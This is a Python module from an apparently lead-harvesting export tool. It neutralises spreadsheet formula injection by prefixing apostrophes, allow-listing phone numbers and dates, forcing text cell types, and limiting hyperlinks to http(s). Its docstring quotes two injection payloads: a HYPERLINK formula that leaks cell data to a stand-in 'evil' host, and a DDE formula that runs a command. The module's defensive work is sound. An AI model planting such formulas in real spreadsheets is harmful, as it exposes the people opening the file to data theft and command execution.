"""Cell safety: the one place every export makes third-party text safe for a spreadsheet.

Lead values are text copied from strangers' web pages. A company "name" such as
``=HYPERLINK("http://evil/?"&A1,"click")`` or ``=cmd|' /C calc'!A0`` becomes a live formula
when a trainee opens the CSV in Excel, or when an xlsx cell is re-edited (OWASP "CSV
injection"). So every value on its way into a CSV or xlsx cell passes through here:

* ``safe_text`` — for CSV and any text cell: ``None`` → ``""``; control characters that
  make an xlsx file unreadable are removed; text whose first non-space character is
  ``= + - @`` (or which starts with tab, CR or LF) gets an apostrophe in front, as OWASP
  recommends. The full-width forms ``＝ ＋ － ＠`` are neutralised too: Excel does not
  evaluate them today, but Chinese input methods type them and other spreadsheet programs
  normalise width, and a company name never needs to start with one.
* An allow-list lets our own well-formed values through untouched: an E.164 number
  (``+61740511234``), the phone lists the lead sheet builds from them
  (``+61740511234 (landline); +61412345678 (mobile)``) and ISO dates. They start with
  ``+`` but cannot carry a formula, and a CRM import needs the ``+``.
* ``safe_cell`` / ``write_row`` — for openpyxl: numbers and datetimes stay values, text is
  made safe *and* typed as a string (``data_type = "s"``), so no cell is ever a formula.
  ``safe_cells`` does the same for write-only sheets (the lead sheet streams its rows).
* ``safe_url`` — only http(s) URLs become hyperlinks (``cell.hyperlink``, never a
  ``HYPERLINK()`` formula); ``javascript:`` and ``file:`` links stay plain text.

JSON lines are not neutralised: JSON is not a spreadsheet, and a consumer of JSONL must get
the page's text exactly as found (see :mod:`exports.jsonl`).
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable
from datetime import UTC, date, datetime
from typing import Any
from urllib.parse import urlsplit

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = frozenset("=+-@＝＋－＠")
"""First non-space characters that a spreadsheet may read as the start of a formula."""

CONTROL_PREFIXES = ("\t", "\r", "\n")
"""Leading characters some programs strip before looking for a formula."""

XLSX_MAX_TEXT = 32767
"""Excel's limit on characters in one cell; longer text corrupts the file for Excel."""

XLSX_MAX_URL = 2079
"""Excel refuses (and "repairs" away) hyperlinks longer than this."""

E164_RE = re.compile(r"^\+\d{6,15}$")
_LABEL = r"(?: \([\w ,]+\))?"
_EXT = r"(?: ext\. \d{1,6})?"
PHONE_LIST_RE = re.compile(
    rf"^\+\d{{6,15}}{_EXT}{_LABEL}(?:; (?:\+\d{{6,15}}{_EXT}|[\d*() -]+){_LABEL})*$"
)
"""``+61740511234 (landline); 139****1234 (masked)``: built by us from E.164 numbers."""
ISO_DATE_RE = re.compile(
    r"^\d{4}-\d{2}-\d{2}(?:[T ]\d{2}:\d{2}(?::\d{2}(?:\.\d+)?)?(?:Z|[+-]\d{2}:?\d{2})?)?$"
)


def is_allowed(text: str) -> bool:
    """True for the values we format ourselves that may start with ``+`` or ``-`` safely."""
    return bool(E164_RE.match(text) or PHONE_LIST_RE.match(text) or ISO_DATE_RE.match(text))


def neutralise(text: str) -> str:
    """Prefix an apostrophe when a spreadsheet could read ``text`` as a formula."""
    if not text or is_allowed(text):
        return text
    stripped = text.lstrip()
    if text.startswith(CONTROL_PREFIXES) or (stripped and stripped[0] in FORMULA_PREFIXES):
        return "'" + text
    return text


def restore_text(text: str) -> str:
    """Undo :func:`neutralise` on text read back from a cell we wrote (``leadharvest import``),
    so a note that starts with ``-`` does not gain an apostrophe on every round trip."""
    if text.startswith("'") and neutralise(text[1:]) == text:
        return text[1:]
    return text


def clean_text(value: object) -> str:
    """Text without the control characters xlsx forbids; NOT yet safe against formulas."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        text = _utc(value).isoformat()
    elif isinstance(value, date):
        text = value.isoformat()
    elif isinstance(value, float) and value.is_integer():
        text = str(int(value))
    else:
        text = str(value)
    return str(ILLEGAL_CHARACTERS_RE.sub("", text))


def safe_text(value: object) -> str:
    """Any value as text that is safe in a CSV or spreadsheet cell (see module docstring)."""
    return neutralise(clean_text(value))


def safe_cell(value: object) -> Any:
    """A value openpyxl may store: numbers and datetimes as values, everything else safe text.

    Datetimes are converted to UTC without a zone (Excel has none; openpyxl refuses aware
    ones). Booleans, NaN and infinities become text, which Excel shows faithfully.
    """
    if value is None:
        return None
    if isinstance(value, bool):
        return safe_text(value)
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else safe_text(value)
    if isinstance(value, datetime):
        return _utc(value).replace(tzinfo=None)
    if isinstance(value, date):
        return value
    return safe_text(value)[:XLSX_MAX_TEXT]


def write_row(ws: Any, values: Iterable[object], *, row: int | None = None) -> list[Any]:
    """Write one row of cells through ``safe_cell``; text cells are forced to type "s".

    openpyxl turns any str starting with "=" into a formula when it is assigned, so the type
    is set after the value: with ``data_type = "s"`` the text is written as a string even
    if neutralising ever missed a case. Returns the cells so callers can style them.
    """
    if row is None:
        # openpyxl's own "next row" (what ws.append uses); unlike max_row it counts a blank
        # row that was appended, so callers can space tables out with write_row(ws, []).
        row = int(ws._current_row) + 1
        ws._current_row = row
    cells = []
    for col, value in enumerate(values, start=1):
        cell = ws.cell(row=row, column=col)
        cell.value = safe_cell(value)
        if isinstance(cell.value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def safe_cells(ws: Any, values: Iterable[object]) -> list[Any]:
    """Cells for a write-only sheet, made safe exactly as ``write_row`` makes them.

    A write-only row cannot be styled once appended, so the cells come back first: style
    them, then ``ws.append(cells)``. Plain values must never be appended to a write-only
    sheet: openpyxl would type a str starting with "=" as a formula on the way in.
    """
    cells = []
    for value in values:
        cell = WriteOnlyCell(ws, value=safe_cell(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def safe_url(url: object) -> str | None:
    """The URL if it may become a clickable hyperlink (absolute http or https), else None."""
    if not isinstance(url, str):
        return None
    url = url.strip()
    if not url or len(url) > XLSX_MAX_URL or any(ch.isspace() or ord(ch) < 32 for ch in url):
        return None
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return None
    return url


def _utc(value: datetime) -> datetime:
    return value.astimezone(UTC) if value.tzinfo else value
